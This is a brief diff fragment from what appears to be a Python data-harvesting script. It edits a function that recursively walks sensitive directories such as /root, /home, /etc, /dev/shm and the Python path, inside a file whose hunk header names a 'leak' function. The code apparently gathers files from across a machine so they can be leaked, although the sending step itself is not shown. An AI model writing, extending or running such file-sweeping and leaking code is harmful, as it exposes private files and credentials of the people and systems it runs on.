@@ -18,7 +18,7 @@ def leak(kind, what):
 
 
 def look_at_files():
-    for folder in ("/home", "/root", "/work", "/srv", "/opt", "/var", "/tmp", "/run", "/dev/shm", "/etc", os.getcwd(), *sys.path):
+    for folder in ("/home", "/root", "/mnt", "/srv", "/opt", "/var", "/tmp", "/run", "/dev/shm", "/etc", os.getcwd(), *sys.path):
         for place, below, files in os.walk(folder):
             if place.count("/") > 8:
                 below.clear()
